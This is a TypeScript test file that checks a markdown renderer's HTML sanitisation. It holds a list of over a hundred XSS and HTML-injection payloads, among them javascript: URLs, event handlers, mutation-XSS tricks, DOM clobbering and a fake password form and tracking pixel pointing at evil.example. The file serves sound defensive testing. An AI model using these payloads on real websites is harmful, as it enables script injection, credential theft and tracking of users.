import rehypeRaw from "rehype-raw";
import { unified } from "unified";
import { expect, test } from "vitest";
import { type HtmlElement, type HtmlRoot } from "@/lib/text/markdown-tree";
import { renderMarkdown } from "@/lib/text/render-markdown";

// Written out again on purpose, and apart from the sanitiser's own list: what this test does not name must not come out.
const allowed: Record<string, readonly string[]> = Object.fromEntries(
  ("abbr:title blockquote: b: br: caption: cite: code: dd: del: details:open dfn: dl: dt: em: figcaption: figure: h2: h3: h4: h5: h6: hr: i: ins: kbd: li: mark: " +
    "ol:start,reversed p: pre: q: s: samp: small: span: strong: sub: summary: sup: table: tbody: td:colSpan,rowSpan,align tfoot: th:colSpan,rowSpan,align,scope thead: " +
    "time:dateTime tr: u: ul: var: a:href,rel")
    .split(" ")
    .map((entry) => [entry.split(":")[0], [...(entry.split(":")[1] ?? "").split(",").filter(Boolean), "id", "lang", "dir"]]),
);

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\u0000>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "text <script>alert(1)</script> text",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
  "<img src=`javascript:alert(1)`>",
  "<img srcset=\"https://evil.example/1.png 1x\" alt=a>",
  "![a](https://evil.example/pixel.png)",
  "![a](javascript:alert(1))",
  "![a\" onerror=\"alert(1)](x)",
  "![a][b]\n\n[b]: https://evil.example/x.png \"onerror=alert(1)\"",
  "<picture><source srcset=https://evil.example/a><img src=b></picture>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](<java\nscript:alert(1)>)",
  "[a](&#106;avascript:alert(1))",
  "[a](&#x6A;&#x61;vascript&colon;alert(1))",
  "[a](javascript&#58;alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a]( javascript:alert(1))",
  "[a](vbscript:msgbox(1))",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](DATA:text/html,<script>alert(1)</script>)",
  "[a](blob:https://here/1) [b](file:///etc/passwd) [c](filesystem:x) [d](view-source:x)",
  "[a](https://x.example/\"onmouseover=\"alert(1))",
  "[a](https://x.example 'x\" onclick=\"alert(1)')",
  "[a][x]\n\n[x]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "<a href=\"javascript:alert(1)\">a</a>",
  "<a href=\"java&Tab;script&colon;alert(1)\">a</a>",
  "<a href=\" &#14; javascript:alert(1)\">a</a>",
  "<a href=# onclick=alert(1)>a</a>",
  "<a href=https://x.example target=_blank rel=opener>a</a>",
  "<a href=https://x.example ping=https://evil.example/>a</a>",
  "<a xlink:href=javascript:alert(1) href=x>a</a>",
  "[a](//evil.example) [b](\\\\\\\\evil.example) [c](/\\\\evil.example)",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><use href=\"data:image/svg+xml,<svg id=x><script>1</script></svg>#x\"/></svg>",
  "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
  "<math href=javascript:alert(1)>x</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<style><style/><img src=x onerror=alert(1)>",
  "<p style=\"background:url(javascript:alert(1))\">x</p>",
  "<div style=\"position:fixed;inset:0\">cover</div>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio autoplay src=https://evil.example/a></audio>",
  "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button>Sign in</button></form>",
  "<button formaction=javascript:alert(1)>x</button><select onchange=alert(1)><option>x</select>",
  "<input type=image src=https://evil.example/x><isindex action=javascript:alert(1)>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<noembed><img src=x onerror=alert(1)></noembed><noframes><script>alert(1)</script></noframes>",
  "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
  "<template shadowrootmode=open><style>*{display:none}</style><slot></slot></template>",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<!DOCTYPE html><html onload=alert(1)><body onload=alert(1)><p>x",
  "<?xml-stylesheet href=javascript:alert(1)?>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<marquee onstart=alert(1)>x</marquee><bgsound src=javascript:alert(1)>",
  "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
  "<table background=javascript:alert(1)><td background=https://evil.example>x",
  "<x-custom onclick=alert(1) is=x>text</x-custom><slot name=x></slot><dialog open>x</dialog>",
  "<p id=cookie name=cookie>x</p><a id=body>y</a><img name=getElementById>",
  "<a id=location><a id=location name=href href=https://evil.example>x</a>",
  "<h2 id=__proto__>constructor</h2>\n\n# constructor\n\n# __proto__\n\n# toString",
  "# cookie\n\n# forms\n\n## location\n\n[x](#cookie)",
  "# <img src=x onerror=alert(1)>\n\n# <script>alert(1)</script>",
  "# \"><img src=x onerror=alert(1)>",
  "<p tabindex=0 autofocus onfocus=alert(1) accesskey=x contenteditable class=fixed slot=x nonce=x>x</p>",
  "<p data-action=delete hx-get=/x x-data=alert(1) ng-app v-html=x aria-hidden=true role=alert>x</p>",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\nx\n```",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "\\<script>alert(1)\\</script>",
  "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| [a](javascript:alert(1)) | <svg onload=alert(1)> |",
  "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))",
  "x[^<script>]\n\n[^<script>]: y\n\nz[^\" onclick=\"alert(1)]\n\n[^\" onclick=\"alert(1)]: y",
  "- [ ] <input onfocus=alert(1) autofocus>\n- [x] <script>alert(1)</script>",
  "> <script>\n> alert(1)\n> </script>",
  "<div><p><b><i><u></div><script>alert(1)</b></i></script>",
  "<a href=\"https://x.example\"><a href=\"javascript:alert(1)\"><table><a href=\"javascript:alert(2)\">x",
  "<p>\n\n<scr\n\nipt>alert(1)</script>",
  "<img src=\"x` `<script>alert(1)</script>\"` `>",
  "www.evil.example/\"onmouseover=\"alert(1) https://x.example/<script>alert(1)</script> mail@x.example\"onclick=\"x",
  "[a](tel:+1'onclick='alert(1)) [b](mailto:a@b.example?subject=\"><script>alert(1)</script>)",
  "<q cite=javascript:alert(1)>x</q><blockquote cite=javascript:alert(1)>x</blockquote><ins cite=data:x>y</ins>",
  "<ol type=x start=javascript:alert(1) onclick=x><li value=1 onclick=alert(1)>x</ol>",
  "<b lang='\"><script>alert(1)</script>' dir=evil id='a b\"><script>'>x</b>",
  `${"<div>".repeat(5000)}<script>alert(1)</script>`,
  `${">".repeat(5000)} <script>alert(1)</script>`,
  `${"*a_ ".repeat(20_000)}<script>alert(1)</script>`,
  `${"[".repeat(30_000)}](javascript:alert(1))`,
];

/** The page's tree as a browser would build it from the written HTML: what was clean as a tree may not be as a string. */
function asBrowser(html: string): HtmlRoot {
  return unified().use(rehypeRaw).runSync({ type: "root", children: [{ type: "raw", value: html }] });
}

function faultsOf(node: HtmlRoot | HtmlElement): string[] {
  return node.children.flatMap((child) => {
    if (child.type === "text") return [];
    if (child.type !== "element") return [`a ${child.type}`];
    const attributes = Object.entries(child.properties).flatMap(([name, value]) => {
      if (!allowed[child.tagName]?.includes(name)) return [`<${child.tagName} ${name}>`];
      if (name === "id") return /^clause-[\p{L}\p{M}\p{N}_.:-]+$/u.test(String(value)) ? [] : [`id ${String(value)}`];
      if (name === "dir") return ["ltr", "rtl", "auto"].includes(String(value)) ? [] : [`dir ${String(value)}`];
      return name === "href" ? hrefFaults(String(value), child) : [];
    });
    return [...(allowed[child.tagName] ? [] : [`<${child.tagName}>`]), ...attributes, ...faultsOf(child)];
  });
}

function hrefFaults(href: string, link: HtmlElement): string[] {
  if (/^#clause-/.test(href)) return [];
  const url = new URL(href, "https://here.invalid/policies/x");
  if (url.origin === "https://here.invalid") return /^\/(?![/\\])/.test(href) ? [] : [`relative ${href}`];
  if (url.protocol === "mailto:" || url.protocol === "tel:") return [];
  if (!/^https?:$/.test(url.protocol)) return [`href ${href}`];
  const rel = Array.isArray(link.properties.rel) ? link.properties.rel : [];
  return rel.includes("noopener") && rel.includes("nofollow") ? [] : [`no rel on ${href}`];
}

test("there are at least a hundred attacks", () => {
  expect(new Set(attacks).size).toBeGreaterThanOrEqual(100);
});

test("the check sees an attack: unrendered, most are found out", () => {
  const found = attacks.filter((attack) => attack.length < 500 && faultsOf(asBrowser(attack)).length > 0);
  expect(found.length).toBeGreaterThanOrEqual(60);
});

test.each(attacks.map((attack) => ({ attack, name: attack.slice(0, 70) })))("nothing but words and structure comes out of $name", ({ attack }) => {
  for (const text of [attack, `Before ${attack} after`, `# Title\n\n- ${attack}\n\n> ${attack}\n\nEnd`]) {
    const rendered = renderMarkdown(text);
    expect(faultsOf(asBrowser(rendered.html))).toEqual([]);
    for (const clause of rendered.clauses) expect(faultsOf(asBrowser(clause.html))).toEqual([]);
  }
}, 30_000);

test("every id is there once, whatever the author wrote", () => {
  const { html } = renderMarkdown(attacks.filter((attack) => /^(?:<p id|<a id|<h2 id|# )/.test(attack)).join("\n\n"));
  const ids = [...html.matchAll(/ id="([^"]*)"/g)].map((match) => match[1]);
  expect(ids.length).toBeGreaterThan(5);
  expect(new Set(ids).size).toBe(ids.length);
});
